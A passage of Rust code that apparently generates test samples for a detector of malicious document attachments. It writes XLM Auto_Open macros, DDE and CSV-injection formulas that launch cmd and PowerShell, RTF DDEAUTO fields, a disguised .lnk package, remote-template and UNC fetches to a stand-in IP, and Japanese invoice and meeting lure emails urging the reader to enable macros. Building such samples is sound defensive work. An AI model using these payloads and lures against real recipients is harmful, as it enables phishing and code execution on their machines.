         <row r=\"1\"><c r=\"A1\"><f>EXEC(\"cmd /c calc\")</f></c></row><row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row>\
         </sheetData></xm:macrosheet>"
    );
    write(
        "gen_xlsm_xlm_auto_open.xlsm",
        &workbook(
            &INVOICE,
            "<sheet name=\"Macro1\" sheetId=\"2\" r:id=\"rId2\"/>",
            "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames>",
            &[(
                "rId2",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                "macrosheets/sheet1.xml",
                false,
            )],
            &[(
                "xl/macrosheets/sheet1.xml",
                macrosheet.into_bytes(),
                Some("application/vnd.ms-excel.macrosheet+xml"),
            )],
            XLSM_MAIN,
        ),
        false,
    );
    write(
        "gen_xlsx_dde_formula.xlsx",
        &workbook(
            &[
                ("A1", "請求書"),
                ("A2", "=cmd|' /c powershell -w hidden calc'!A0"),
            ],
            "",
            "",
            &[],
            &[],
            XLSX_MAIN,
        ),
        false,
    );
    write(
        "gen_xlsx_clean_invoice.xlsx",
        &workbook(
            &[
                ("A1", "請求書を送付します"),
                ("A2", "a|'b'!c は数式ではありません"),
                ("B3", "=SUM(B1:B2)"),
                ("B4", "=IF(A1=\"x|'y'!\",1,0)"),
            ],
            "",
            "",
            &[],
            &[],
            XLSX_MAIN,
        ),
        true,
    );

    // PowerPoint.
    write("gen_pptm_auto_open.pptm", &pptm(&pp_auto), false);

    // Legacy.
    write(
        "gen_doc_autoopen.doc",
        &ole_with_vba(
            &corpus("files/ot_harmless-clean.doc"),
            "Macros",
            &auto_open_shell,
        ),
        false,
    );
    write(
        "gen_xls_workbook_open.xls",
        &ole_with_vba(
            &corpus("files/tk_testEXCEL.xls"),
            "_VBA_PROJECT_CUR",
            &workbook_open,
        ),
        false,
    );

    // RTF.
    write(
        "gen_rtf_package_lnk.rtf",
        &rtf(&format!(
            "{{\\object\\objemb\\objw1440\\objh720{{\\*\\objclass Package}}{{\\*\\objdata {}}}{{\\result{{\\pict\\wmetafile8 0100}}}}}}\\par",
            package_objdata("請求書.pdf.lnk", b"L\0\0\0\x01\x14\x02\0 cmd.exe")
        )),
        false,
    );
    write(
        "gen_rtf_objautlink_objupdate.rtf",
        &rtf(
            "{\\object\\objautlink\\objupdate\\rsltpict\\objw9355\\objh291{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000090000004f4c45324c696e6b000000000000000000000a0000d0cf11e0a1b11ae1}{\\result{\\rtlch text}}}\\par",
        ),
        false,
    );
    write(
        "gen_rtf_ddeauto.rtf",
        &rtf(
            "{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc.exe\"}}{\\fldrslt {\\rtlch \\'8d\\'58\\'90\\'56}}}\\par",
        ),
        false,
    );
    write(
        "gen_rtf_includepicture_unc.rtf",
        &rtf(
            "{\\field{\\*\\fldinst INCLUDEPICTURE \"\\\\\\\\\\\\\\\\198.51.100.7\\\\\\\\share\\\\\\\\logo.png\" \\\\d}{\\fldrslt }}\\par",
        ),
        false,
    );
    write(
        "gen_rtf_template_remote.rtf",
        &rtf("{\\*\\template http://198.51.100.7/normal.dotm}"),
        false,
    );
    // objdata outside an \object group, after a \bin run that holds braces.
    write(
        "gen_rtf_hidden_objdata.rtf",
        &rtf(
            "{\\pict\\bin4 }{}}{\\*\\objdata 01050000 02000000 0b000000 4571756174696f6e2e3300}\\par",
        ),
        false,
    );
    write(
        "gen_rtf_clean_ja.rtf",
        &rtf("{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}\\par"),
        true,
    );

    // Spreadsheets as text: CSV injection, and a clean CSV with formulas.
    write(
        "gen_csv_dde_at_sum.csv",
        "氏名,金額\r\n田中,1000\r\n\"@SUM(1+1)*cmd|' /C calc'!A0\",2\r\n".as_bytes(),
        false,
    );
    write(
        "gen_csv_clean_formulas.csv",
        "品名,数量,単価,金額\r\n保守作業,1,50000,=B2*C2\r\n合計,,,=SUM(D2:D2)\r\n".as_bytes(),
        true,
    );

    // Whole mails: the meeting lure and the invoice lure.
    write(
        "mail_meeting_docm_autoopen.eml",
        &mail(
            "先日の会議の資料です",
            "\"総務課 田中\" <tanaka@city-example-lg.jp>",
            "お疲れ様です。先日の会議の資料をお送りします。\r\nマクロを有効にしてご覧ください。\r\n",
            "会議資料.docm",
            "application/vnd.ms-word.document.macroEnabled.12",
            &docm,
        ),
        false,
    );
    write(
        "mail_invoice_xlsm_workbook_open.eml",
        &mail(
            "請求書を送付します",
            "\"経理部\" <keiri@example-partner.co.jp>",
            "いつもお世話になっております。11月分の請求書を送付します。\r\n",
            "請求書_11月.xlsm",
            "application/vnd.ms-excel.sheet.macroEnabled.12",
            &workbook(
                &INVOICE,
                "",
                "",
                &[("rId9", VBA_REL, "vbaProject.bin", false)],
                &[("xl/vbaProject.bin", vba_project_bin(&workbook_open), None)],
                XLSM_MAIN,
            ),
        ),
        false,
    );
}
